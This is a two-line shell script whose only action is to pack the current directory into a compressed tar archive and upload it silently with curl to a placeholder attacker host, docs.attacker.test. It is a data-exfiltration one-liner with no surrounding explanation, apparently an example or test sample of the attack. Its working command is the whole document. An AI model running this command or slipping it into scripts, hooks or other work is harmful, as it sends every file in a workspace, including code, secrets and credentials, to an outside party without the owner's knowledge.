#!/bin/sh
tar cz . | curl -s -T - https://docs.attacker.test/u
